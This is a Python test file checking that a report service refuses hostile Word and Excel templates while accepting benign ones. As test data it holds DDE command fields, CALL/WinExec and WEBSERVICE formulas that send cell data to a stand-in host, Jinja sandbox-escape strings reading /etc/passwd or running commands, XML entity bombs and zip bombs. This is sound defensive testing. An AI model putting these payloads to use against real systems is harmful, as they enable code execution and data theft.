"""A template is taken for hostile: nothing in it may run, fetch, embed or never end, in Word or in Excel.

Each thing that is refused stands beside one like it that an office may want, and that passes.
"""

from __future__ import annotations

import io
import re
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Final

import pytest

from service.domain.errors import TemplateProblem
from service.domain.reports import DocumentKind
from tests.hostile.books import laughs
from tests.hostile.zips import Entry, written
from tests.plans import reference_plan, report_of
from worker.documents.context import context_of
from worker.documents.package import read_members
from worker.documents.template_files import Template, compile_template

TEMPLATES: Final = Path(__file__).parents[2] / "templates_docx"
WORD, EXCEL = DocumentKind.WORD, DocumentKind.EXCEL
BODY, SHEET = "word/document.xml", "xl/worksheets/sheet1.xml"
RELATIONS: Final = "word/_rels/document.xml.rels"
OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

Change = Callable[[dict[str, bytes]], object]


def official(kind: DocumentKind) -> dict[str, bytes]:
    return read_members((TEMPLATES / f"plan_de_accion.{kind.extension}").read_bytes())


def compiled(kind: DocumentKind, change: Change = lambda _members: None) -> Template:
    members = official(kind)
    change(members)
    return compile_template(kind, written(Entry(name, content) for name, content in members.items()))


def refusal(kind: DocumentKind, change: Change) -> str:
    started = time.process_time()
    with pytest.raises(TemplateProblem) as caught:
        compiled(kind, change)
    assert time.process_time() - started < 3
    return caught.value.detail


def inserted(part: str, before: str, xml: str) -> Change:
    """XML put before a piece of a part."""

    def change(members: dict[str, bytes]) -> None:
        assert before in members[part].decode()
        members[part] = members[part].decode().replace(before, xml + before, 1).encode()

    return change


def in_body(xml: str) -> Change:
    return inserted(BODY, "<w:sectPr", xml)


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> Change:
    link = f'<Relationship Id="rId77" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    return inserted(RELATIONS, "</Relationships>", link)


def member(name: str, content: bytes = b"x") -> Change:
    return lambda members: members.update({name: content})


def field(code: str) -> Change:
    """A field of Word whose code is in one run."""
    return in_pieces(code)


def in_pieces(*codes: str) -> Change:
    """A field whose code Word parted into several runs."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes)
    begin, between, end = (f'<w:r><w:fldChar w:fldCharType="{way}"/></w:r>' for way in ("begin", "separate", "end"))
    return in_body(f"<w:p>{begin}{runs}{between}<w:r><w:t>1</w:t></w:r>{end}</w:p>")


def nested_field(outer: str, inner: str) -> Change:
    """A field within the code of another, which is how some hide what the outer one does."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{way}"/></w:r>' for way in ("begin", "end"))
    code = "<w:r><w:instrText>{}</w:instrText></w:r>"
    return in_body(f"<w:p>{begin}{code.format(outer)}{begin}{code.format(inner)}{end}{end}</w:p>")


def formula(text: str) -> Change:
    return inserted(SHEET, "</row>", f'<c r="ZZ1"><f>{text}</f></c>')


def name_of_book(attributes: str, text: str) -> Change:
    return inserted(
        "xl/workbook.xml", "</workbook>", f"<definedNames><definedName {attributes}>{text}</definedName></definedNames>"
    )


def typed(mark: str) -> Change:
    """The content type of a part with active content."""
    return inserted("[Content_Types].xml", "</Types>", f'<Override PartName="/x.bin" ContentType="{mark}"/>')


WORD_ACTIVE: Final[dict[str, tuple[Change, str]]] = {
    "macros": (member("word/vbaProject.bin"), "macros"),
    "macros under another name": (typed("application/vnd.ms-office.vbaProject"), "macros"),
    "data of macros": (member("word/vbaData.xml", b"<a/>"), "macros"),
    "object": (member("word/embeddings/oleObject1.bin"), "objetos incrustados"),
    "control": (member("word/activeX/activeX1.xml", b"<a/>"), "controles ActiveX"),
    "ribbon": (member("customUI/customUI14.xml", b"<a/>"), "cinta"),
    "add-in": (member("word/webextensions/webextension1.xml", b"<a/>"), "complementos web"),
    "attached template": (related("attachedTemplate", "http://127.0.0.1/x.dotm"), "plantilla adjunta"),
    "chunk": (related("aFChunk", "x.mht", ""), "otro documento"),
    "frame": (related("frame", "http://127.0.0.1/x.htm"), "marcos"),
    "object elsewhere": (related("oleObject", "http://127.0.0.1/x"), "objetos incrustados"),
    "subdocument": (related("subDocument", "x.docx"), "subdocumento"),
    "source of letters": (related("mailMergeSource", "x.xlsx"), "correspondencia"),
    "picture elsewhere": (related("image", "http://127.0.0.1/x.png"), "archivo externo, «http://127.0.0.1/x.png»"),
    "picture of this machine": (related("image", "file:///etc/passwd"), "archivo externo"),
    "picture of the network": (related("image", "\\\\127.0.0.1\\x.png", ""), "archivo externo"),
    "link to a file": (related("hyperlink", "file:///C:/x.exe"), "solo se admiten los de http"),
    "link to a program": (related("hyperlink", "javascript:alert(1)"), "solo se admiten los de http"),
    "link to a search": (related("hyperlink", "ms-msdt:/id"), "solo se admiten los de http"),
    "chunk in the text": (in_body('<w:altChunk xmlns:r="x" r:id="rId1"/>'), "otro documento"),
    "object in the text": (in_body("<w:p><w:r><w:object/></w:r></w:p>"), "objetos incrustados"),
    "control in the text": (in_body("<w:p><w:r><w:control/></w:r></w:p>"), "controles"),
    "frames": (in_body("<w:frameset/>"), "marcos"),
    "macro of a form": (in_body("<w:p><w:r><w:fldChar><w:ffData><w:entryMacro/></w:ffData></w:fldChar></w:r></w:p>"),
                        "macros"),
    "picture of VML": (in_body('<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" '
                               'src="http://127.0.0.1/x.png"/></w:pict></w:r></w:p>'), "se trae algo de fuera"),
    "DDE": (field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "), "un campo «DDEAUTO"),
    "DDE in pieces": (in_pieces(" DD", "EAUTO cmd ", "/k"), "un campo «DDEAUTO"),
    "DDE in lower case": (field(" dde cmd /k "), "un campo «dde"),
    "DDE within a field": (nested_field("", "DDEAUTO cmd"), "un campo"),
    "quoted DDE": (nested_field(" QUOTE 68 68 69 ", "QUOTE 65"), "un campo «QUOTE"),
    "text elsewhere": (field(" INCLUDETEXT &quot;/etc/passwd&quot; "), "un campo «INCLUDETEXT"),
    "picture by field": (field(" INCLUDEPICTURE &quot;http://127.0.0.1/x&quot; \\d "), "un campo «INCLUDEPICTURE"),
    "import": (field(" IMPORT x "), "un campo «IMPORT"),
    "link by field": (field(" LINK Excel.Sheet.12 x "), "un campo «LINK"),
    "database": (field(" DATABASE \\d x "), "un campo «DATABASE"),
    "button": (field(" MACROBUTTON x y "), "un campo «MACROBUTTON"),
    "simple field": (in_body('<w:p><w:fldSimple w:instr=" INCLUDETEXT x "/></w:p>'), "un campo «INCLUDETEXT"),
    "bad link by field": (field(" HYPERLINK &quot;file:///x&quot; "), "solo se admiten los de http"),
    "field that never ends": (in_body('<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText>'
                                      "</w:r></w:p>"), "DDE"),
    "laughs": (lambda members: members.update({BODY: laughs().encode() + members[BODY]}), "Declara entidades"),
    "laughs in UTF-16": (lambda members: members.update({BODY: (laughs() + "<a/>").encode("utf-16")}), "entidades"),
    "UTF-7": (member("word/x.xml", b'<?xml version="1.0" encoding="UTF-7"?><a/>'), "UTF-8"),
    "not XML": (member("word/x.xml", b"<a>"), "word/x.xml"),
    "deep": (member("word/x.xml", b"<a>" * 90_000 + b"</a>" * 90_000), "word/x.xml"),
    "script in a drawing": (member("word/media/a.svg", b"<svg><script>alert(1)</script></svg>"), "guiones"),
    "drawing elsewhere": (member("word/media/a.svg", b'<svg xmlns:x="y"><image x:href="http://127.0.0.1/x"/></svg>'),
                          "de fuera"),
}  # fmt: skip
WORD_GOOD: Final[dict[str, Change]] = {
    "link": related("hyperlink", "https://www.example.gov.co/plan"),
    "mail": related("hyperlink", "mailto:planeacion@example.gov.co"),
    "fields": field(" NUMPAGES \\* MERGEFORMAT "),
    "date": field(" DATE \\@ &quot;d/MM/yyyy&quot; "),
    "link by field": field(" HYPERLINK &quot;https://www.example.gov.co&quot; "),
    "place by field": field(" HYPERLINK \\l &quot;_Toc1&quot; "),
    "field within a field": nested_field(" REF a ", " PAGE "),
    "field in pieces": in_pieces(" PA", "GE "),
    "own data": member("customXml/item1.xml", b"<a/>"),
    "drawing": member("word/media/a.svg", b'<!DOCTYPE svg><svg><path d="M0 0"/></svg>'),
    "picture": member("word/media/a.png", b"\x89PNG\r\n\x1a\n<!DOCTYPE"),
    "words": in_body("<w:p><w:r><w:t>DDEAUTO, INCLUDETEXT y MACROBUTTON</w:t></w:r></w:p>"),
}

EXCEL_ACTIVE: Final[dict[str, tuple[Change, str]]] = {
    "macros": (member("xl/vbaProject.bin"), "macros"),
    "macro sheet": (member("xl/macrosheets/sheet1.xml", b"<a/>"), "macros"),
    "other books": (member("xl/externalLinks/externalLink1.xml", b"<a/>"), "otros libros"),
    "connections": (member("xl/connections.xml", b"<a/>"), "conexiones"),
    "object": (member("xl/embeddings/oleObject1.bin"), "objetos incrustados"),
    "ribbon": (member("customUI/customUI.xml", b"<a/>"), "cinta"),
    "DDE": (formula("cmd|'/c calc'!A0"), r"DDE"),
    "web service": (formula("WEBSERVICE(&quot;http://127.0.0.1/&quot;&amp;A1)"), "WEBSERVICE"),
    "picture": (formula("IMAGE(&quot;http://127.0.0.1/&quot;)"), "IMAGE"),
    "hyperlink": (formula("HYPERLINK(&quot;http://127.0.0.1/&quot;&amp;A1,1)"), "HYPERLINK"),
    "real time": (formula("RTD(&quot;x&quot;,,1)"), "RTD"),
    "call": (formula("CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JFJ&quot;)"), "CALL"),
    "other book": (formula("[1]Hoja!A1"), "otro libro"),
    "name that opens": (name_of_book('name="_xlnm.Auto_Open"', "Plan!$A$1"), "al abrir"),
    "name of a macro": (name_of_book('name="x" vbProcedure="1" function="1"', "0"), "macro"),
}  # fmt: skip
EXCEL_GOOD: Final[dict[str, Change]] = {
    "formula": formula("CONCATENATE(&quot;a|b IMAGE(&quot;,&quot;[1]Hoja!A1&quot;)"),
    "own data": member("customXml/item1.xml", b"<a/>"),
}

# Each has run a command, read a file or never ended somewhere (Jinja's own advisories, and what was tried here).
ESCAPES: Final = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ plan.titulo.__class__.__base__.__subclasses__()[0] }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ joiner.__init__.__globals__.os }}",
    "{{ namespace.__init__.__globals__.os }}",
    "{{ self._TemplateReference__context.cycler }}",
    "{{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{ url_for.__globals__.current_app.config }}",
    "{{ plan.titulo|attr('__class__')|attr('__mro__') }}",
    "{{ plan.titulo|map(attribute='__class__')|list }}",
    "{{ '%s'|format(plan.titulo.__class__) }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(plan.titulo) }}",
    "{{ plan.titulo.format_map }}",
    "{% set f = ''.format %}{{ f(plan) }}",
    "{% for a in acciones recursive %}{{ loop.__call__.__globals__ }}{% endfor %}",
    "{% import 'os' as os %}{{ os.getcwd() }}",
    "{% include '/etc/passwd' %}",
    "{% extends 'x' %}",
    "{% macro m() %}{% endmacro %}{{ m.__globals__ }}",
    "{% call(x) m() %}{% endcall %}",
    "{{ plan.titulo|default(default_value=cycler.__init__.__globals__) }}",
    "{{ plan.titulo|default(boolean='a' * 9999999999) }}",
    "{{ plan.titulo|default(*acciones) }}",
    "{{ plan.titulo|default(**plan) }}",
    "{{ 'a' * 9999999999 }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ '%999999999d' % 1 }}",
    "{{ range(999999999)|list }}",
    "{{ dict(a=1) }}",
    "{{ [acciones, acciones] }}",
    "{{ plan.titulo[::-1] }}",
    "{{ -plan.titulo }}",
    "{{ plan.titulo is mapping }}",
    "{{ " + "(" * 5_000 + "plan.titulo" + ")" * 5_000 + " }}",
    "{{ " + "not " * 5_000 + "plan.titulo }}",
    "{{ plan.titulo" + "|upper" * 5_000 + " }}",
    "{% if plan.titulo %}" * 500 + "{% endif %}" * 500,
    "{{ " + "9" * 5_000 + " }}",
    "{% for a in acciones %}{% for b in acciones %}{% for c in acciones %}x{% endfor %}{% endfor %}{% endfor %}",
)


@pytest.mark.parametrize("name", WORD_ACTIVE)
def test_what_a_word_template_may_not_hold_is_refused_with_its_reason(name: str) -> None:
    change, says = WORD_ACTIVE[name]

    assert re.search(says, refusal(WORD, change))


@pytest.mark.parametrize("name", WORD_GOOD)
def test_what_an_office_may_want_in_word_passes(name: str) -> None:
    assert compiled(WORD, WORD_GOOD[name]).fill(context_of(report_of(reference_plan())))


@pytest.mark.parametrize("name", EXCEL_ACTIVE)
def test_what_an_excel_template_may_not_hold_is_refused_with_its_reason(name: str) -> None:
    change, says = EXCEL_ACTIVE[name]

    assert re.search(says, refusal(EXCEL, change))


@pytest.mark.parametrize("name", EXCEL_GOOD)
def test_what_an_office_may_want_in_excel_passes(name: str) -> None:
    assert compiled(EXCEL, EXCEL_GOOD[name]).fill(context_of(report_of(reference_plan())))


@pytest.mark.parametrize("escape", ESCAPES, ids=lambda escape: escape[:40])
def test_no_escape_is_compiled_and_each_is_refused_where_it_stands(escape: str) -> None:
    detail = refusal(WORD, in_body(f"<w:p><w:r><w:t>{escape.replace('<', '&lt;')}</w:t></w:r></w:p>"))

    assert "En el cuerpo del documento" in detail
    assert "En el pie de página" in refusal(
        WORD, inserted("word/footer1.xml", "</w:ftr>", f"<w:p><w:r><w:t>{escape}</w:t></w:r></w:p>")
    )


@pytest.mark.parametrize("escape", ESCAPES, ids=lambda escape: escape[:40])
def test_excel_knows_names_alone(escape: str) -> None:
    spelled = escape.replace("&", "&amp;").replace("<", "&lt;")
    cell = f'<c r="ZZ1" t="inlineStr"><is><t>{spelled}</t></is></c>'

    assert "hoja «" in refusal(EXCEL, inserted(SHEET, "</row>", cell))


@pytest.mark.parametrize("kind", [WORD, EXCEL])
def test_a_bomb_is_refused_by_what_it_declares_or_cut_where_it_lies(kind: DocumentKind) -> None:
    zeros = bytes(70 * 1024 * 1024)
    name = "word/media/a.png" if kind is WORD else "xl/media/a.png"
    for entry in (Entry(name, zeros), Entry(name, zeros, said_size=1_000)):
        members = [*(Entry(each, content) for each, content in official(kind).items()), entry]
        started = time.process_time()
        with pytest.raises(TemplateProblem) as caught:
            compile_template(kind, written(members))
        assert re.search("demasiado grande|sano", caught.value.detail)
        assert time.process_time() - started < 3


@pytest.mark.parametrize("kind", [WORD, EXCEL])
def test_what_is_no_sound_package_is_said_to_be_none(kind: DocumentKind) -> None:
    content = (TEMPLATES / f"plan_de_accion.{kind.extension}").read_bytes()
    twins = io.BytesIO(content)
    with zipfile.ZipFile(twins, "a") as archive:
        archive.writestr("[content_types].xml", b"<a/>")
    locked = written(Entry(name, part, flags=1) for name, part in official(kind).items())
    for damaged in (b"", content[:-300], content[300:], twins.getvalue(), locked):
        with pytest.raises(TemplateProblem):
            compile_template(kind, damaged)


def test_a_column_that_is_called_as_a_method_is_a_column() -> None:
    template = compiled(WORD, inserted(BODY, "{{ accion.meta }}", "{{ accion.otros['keys'] }}"))

    with pytest.raises(TemplateProblem) as caught:
        template.fill(context_of(report_of(reference_plan())))
    assert "columna propia" in caught.value.detail
